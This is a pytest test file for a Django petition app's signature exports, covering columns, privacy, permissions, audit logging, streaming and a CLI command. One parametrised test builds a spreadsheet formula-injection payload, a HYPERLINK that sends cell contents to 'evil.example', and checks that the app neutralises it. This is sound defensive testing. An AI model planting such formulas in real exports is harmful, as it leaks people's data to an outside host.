import csv
import io
import zipfile

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from signatures import exports, services
from signatures.models import Signature, SignatureExport
from tests.support.factories import make_signature, make_staff

DELIVERY_HEADER = ["name", "locality", "region", "country", "action_date", "comments"]
ORGANIZER_HEADER = [
    *DELIVERY_HEADER,
    "public",
    "email",
    "postal_code",
    "district",
    "email_opt_in",
    "status",
    "languages_spoken",
    "referrer_source",
]
EXPORT_URL = reverse("admin:signatures_signature_export")


@pytest.fixture
def organizer(db, client):
    client.force_login(make_staff("organizer", "view_signature", "export_organizer", "view_signatureexport"))
    return client


@pytest.fixture
def campaign(make_petition):
    """Three confirmed signers (one with a public comment, one with a private one) and one pending."""
    petition = make_petition(requires_confirmation=True)
    make_signature(
        petition,
        name="Ana Ruiz",
        email="ana@example.org",
        postal_code="78205",
        comment="For my cousins.",
        public=True,
        opt_in=True,
        language="es",
        source="whatsapp",
    )
    make_signature(
        petition, name="Ben Ode", email="ben@example.org", postal_code="10001", comment="Private note."
    )
    make_signature(petition, name="Chloé Ng", email="chloe@example.org", postal_code="SW1A 1AA", country="GB")
    make_signature(
        petition, confirmed=False, name="Dee Pending", email="dee@example.org", postal_code="99501"
    )
    return petition


def download(response) -> bytes:
    assert response.status_code == 200, response.content[:500]
    assert response.streaming
    return b"".join(response.streaming_content)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def post_export(client, petition, **options):
    data = {"petition": petition.pk, "kind": "delivery", "all_statuses": "", "split": "none", **options}
    return client.post(EXPORT_URL, data)


def test_the_delivery_list_has_its_columns_and_the_confirmed_signers_only(organizer, campaign):
    response = post_export(organizer, campaign)
    today = timezone.localdate().isoformat()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{campaign.slug}-delivery-{today}.csv"'
    data = download(response)
    assert read_csv(data) == [
        DELIVERY_HEADER,
        ["Ana Ruiz", "San Antonio", "TX", "US", today, "For my cousins."],
        ["Ben Ode", "New York", "NY", "US", today, ""],
        ["Chloé Ng", "", "", "GB", today, ""],
    ]


def test_the_delivery_list_never_holds_an_email_a_zip_or_a_private_comment(organizer, campaign):
    data = download(post_export(organizer, campaign, all_statuses="1")).decode("utf-8-sig")
    for private in ("@example.org", "78205", "10001", "SW1A", "Private note."):
        assert private not in data
    assert "Dee Pending" in data  # all statuses asked for


def test_the_organizer_list_adds_contact_consent_status_language_and_source(organizer, campaign, congress):
    today = timezone.localdate().isoformat()
    response = post_export(organizer, campaign, kind="organizer", all_statuses="1")
    assert response["Content-Disposition"] == f'attachment; filename="{campaign.slug}-organizer-{today}.csv"'
    assert read_csv(download(response)) == [
        ORGANIZER_HEADER,
        [
            "Ana Ruiz",
            "San Antonio",
            "TX",
            "US",
            today,
            "For my cousins.",
            "yes",
            "ana@example.org",
            "78205",
            "split",  # in the shipped ZIP table 78205 and 10001 span several districts
            "yes",
            "confirmed",
            "es",
            "whatsapp",
        ],
        [
            "Ben Ode",
            "New York",
            "NY",
            "US",
            today,
            "Private note.",
            "no",
            "ben@example.org",
            "10001",
            "split",
            "no",
            "confirmed",
            "en",
            "",
        ],
        [
            "Chloé Ng",
            "",
            "",
            "GB",
            today,
            "",
            "no",
            "chloe@example.org",
            "SW1A 1AA",
            "",
            "no",
            "confirmed",
            "en",
            "",
        ],
        [
            "Dee Pending",
            "Anchorage",
            "AK",
            "US",
            today,
            "",
            "no",
            "dee@example.org",
            "99501",
            "AK-AL",  # at large
            "no",
            "pending",
            "en",
            "",
        ],
    ]


@pytest.mark.parametrize("kind", ["delivery", "organizer"])
@pytest.mark.parametrize("split", ["none", "state", "district"])
def test_a_comment_an_organizer_hid_never_leaves_the_site(organizer, campaign, kind, split):
    ana = Signature.objects.get(name="Ana Ruiz")
    services.comments_set_hidden(signatures=[ana], hidden=True)
    data = download(post_export(organizer, campaign, kind=kind, split=split))
    if split != "none":
        archive = zipfile.ZipFile(io.BytesIO(data))
        data = b"".join(archive.read(name) for name in archive.namelist())
    text = data.decode("utf-8-sig")
    assert "Ana Ruiz" in text
    assert "For my cousins." not in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
    organizer, petition, signer_data, start
):
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    # Signing strips the spaces around a name or comment (a leading tab or
    # CR with them); a ?src= code is kept as it came.
    services.signature_create(
        petition=petition, **signer_data(name=hostile, comment=hostile), public=True, source=hostile
    )
    for kind in ("delivery", "organizer"):
        header, row = read_csv(download(post_export(organizer, petition, kind=kind)))
        cells = dict(zip(header, row, strict=True))
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
        if start.strip():
            assert cells["name"] == cells["comments"] == "'" + hostile
    assert cells["referrer_source"] == "'" + hostile


def test_a_large_export_streams_rows_from_a_server_side_cursor(organizer, petition, signer_data, monkeypatch):
    monkeypatch.setattr(exports, "FLUSH_BYTES", 1)  # a chunk per row, as if each row were large
    for i in range(30):
        services.signature_create(petition=petition, **signer_data(email=f"s{i}@example.org"))
    with CaptureQueriesContext(connection) as queries:
        response = post_export(organizer, petition)
    assert response.streaming
    # Nothing has been read yet: the rows are fetched while the body is sent.
    assert not any('FROM "signatures_signature"' in q["sql"] for q in queries.captured_queries)
    chunks = iter(response.streaming_content)
    assert next(chunks).decode("utf-8-sig") == ",".join(DELIVERY_HEADER) + "\r\n"
    assert next(chunks).decode().count("\r\n") == 1  # one row per chunk
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors")
        assert cursor.fetchone()[0] >= 1  # the export's named cursor is open mid-way
    log = SignatureExport.objects.get()
    assert log.rows is None  # not finished
    rest = list(chunks)
    assert len(rest) == 29
    log.refresh_from_db()
    assert log.rows == 30


def test_every_export_is_recorded_with_who_what_and_how_many(organizer, campaign):
    download(post_export(organizer, campaign, kind="organizer", split="state"))
    log = SignatureExport.objects.get()
    assert log.user.username == log.actor == "organizer"
    assert (log.via, log.kind, log.petition, log.rows) == ("admin", "organizer", campaign, 3)
    assert log.filters == {"statuses": "confirmed", "split": "state"}
    assert log.columns == ORGANIZER_HEADER
    page = organizer.get(reverse("admin:signatures_signatureexport_changelist"))
    assert page.status_code == 200 and "organizer" in page.content.decode()


def test_the_export_log_is_read_only_in_admin(db, client, campaign):
    client.force_login(User.objects.create_superuser("boss", password=None))
    download(post_export(client, campaign))
    log = SignatureExport.objects.get()
    change = client.get(reverse("admin:signatures_signatureexport_change", args=[log.pk]))
    assert change.status_code == 200 and 'name="_save"' not in change.content.decode()
    delete = client.post(reverse("admin:signatures_signatureexport_delete", args=[log.pk]), {"post": "yes"})
    assert delete.status_code == 403
    assert client.get(reverse("admin:signatures_signatureexport_add")).status_code == 403
    assert SignatureExport.objects.count() == 1


def test_a_zip_archive_holds_one_file_per_state(organizer, campaign):
    today = timezone.localdate().isoformat()
    response = post_export(organizer, campaign, split="state")
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == f'attachment; filename="{campaign.slug}-delivery-{today}.zip"'
    archive = zipfile.ZipFile(io.BytesIO(download(response)))
    stem = f"{campaign.slug}-delivery-{today}"
    assert archive.namelist() == [f"{stem}-no-state.csv", f"{stem}-NY.csv", f"{stem}-TX.csv"]
    assert read_csv(archive.read(f"{stem}-TX.csv")) == [
        DELIVERY_HEADER,
        ["Ana Ruiz", "San Antonio", "TX", "US", today, "For my cousins."],
    ]
    assert [row[0] for row in read_csv(archive.read(f"{stem}-no-state.csv"))[1:]] == ["Chloé Ng"]


def test_a_zip_archive_holds_one_file_per_district(organizer, campaign):
    Signature.objects.filter(name="Ana Ruiz").update(district="TX-20")
    Signature.objects.filter(name="Ben Ode").update(district_split=True)
    archive = zipfile.ZipFile(io.BytesIO(download(post_export(organizer, campaign, split="district"))))
    assert [n.split(f"{timezone.localdate().isoformat()}-")[1] for n in archive.namelist()] == [
        "no-district.csv",
        "split-district.csv",
        "TX-20.csv",
    ]


def test_anonymous_visitors_are_sent_to_the_login_page(client, campaign):
    for response in (client.get(EXPORT_URL), post_export(client, campaign)):
        assert response.status_code == 302
        assert "/login/" in response["Location"]
    assert SignatureExport.objects.count() == 0


def test_staff_without_permission_to_see_signatures_export_nothing(client, campaign):
    client.force_login(make_staff("volunteer"))
    assert client.get(EXPORT_URL).status_code == 403
    assert post_export(client, campaign).status_code == 403
    assert SignatureExport.objects.count() == 0


def test_staff_who_may_see_signatures_get_the_delivery_list_but_not_the_organizer_list(client, campaign):
    client.force_login(make_staff("caller", "view_signature"))
    page = client.get(EXPORT_URL).content.decode()
    assert 'value="delivery"' in page and 'value="organizer"' not in page
    assert post_export(client, campaign, kind="organizer").status_code == 403
    assert SignatureExport.objects.count() == 0
    download(post_export(client, campaign))
    assert SignatureExport.objects.get().kind == "delivery"


def test_the_organizer_list_needs_its_own_permission_in_the_list_actions_too(client, campaign):
    client.force_login(make_staff("caller", "view_signature"))
    changelist = reverse("admin:signatures_signature_changelist")
    assert "export_organizer" not in client.get(changelist).content.decode()
    ids = [str(pk) for pk in Signature.objects.values_list("pk", flat=True)]
    response = client.post(changelist, {"action": "export_organizer", "_selected_action": ids})
    assert not response.streaming
    assert SignatureExport.objects.count() == 0


def test_the_list_action_exports_the_selected_confirmed_signatures(organizer, campaign):
    changelist = reverse("admin:signatures_signature_changelist")
    picked = Signature.objects.filter(name__in=["Ben Ode", "Dee Pending"]).values_list("pk", flat=True)
    response = organizer.post(
        changelist + "?status__exact=confirmed",
        {"action": "export_organizer", "_selected_action": [str(pk) for pk in picked]},
    )
    rows = read_csv(download(response))
    assert rows[0] == ORGANIZER_HEADER
    assert [row[0] for row in rows[1:]] == ["Ben Ode"]  # the pending one is left out
    log = SignatureExport.objects.get()
    assert (log.kind, log.petition, log.rows) == ("organizer", campaign, 1)
    assert log.filters["selection"] == 2 and log.filters["changelist"] == "status__exact=confirmed"


def test_the_export_form_explains_bad_options(organizer, campaign):
    response = post_export(organizer, campaign, split="county")
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()
    assert SignatureExport.objects.count() == 0


def test_the_command_writes_the_dated_file_and_records_the_export(campaign, tmp_path, capsys):
    target = tmp_path / "out.csv"
    call_command("export_signatures", campaign.slug, "--kind", "organizer", "--output", str(target))
    rows = read_csv(target.read_bytes())
    assert rows[0] == ORGANIZER_HEADER and len(rows) == 4
    output = capsys.readouterr()
    assert "\r" not in output.out and "%" not in output.out  # no progress bar off a terminal
    assert f"Wrote 3 signature(s) to {target}" in output.out
    log = SignatureExport.objects.get()
    assert (log.via, log.kind, log.user, log.rows) == ("command", "organizer", None, 3)
    assert log.actor.endswith("(command line)")


def test_the_command_makes_a_zip_per_state_under_the_default_name(campaign, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    call_command("export_signatures", campaign.slug, "--split", "state", "--all-statuses")
    (path,) = tmp_path.iterdir()
    assert path.name == f"{campaign.slug}-delivery-{timezone.localdate().isoformat()}.zip"
    assert len(zipfile.ZipFile(path).namelist()) == 4  # AK (pending), NY, TX and no state


def test_the_command_shows_a_progress_bar_on_a_terminal(campaign, tmp_path):
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    out = Terminal()
    call_command("export_signatures", campaign.slug, "-o", str(tmp_path / "x.csv"), stdout=out)
    assert "\r[" in out.getvalue() and "100%" in out.getvalue()


def test_the_command_rejects_an_unknown_petition(db):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="No petition with slug: nope"):
        call_command("export_signatures", "nope")
    assert SignatureExport.objects.count() == 0
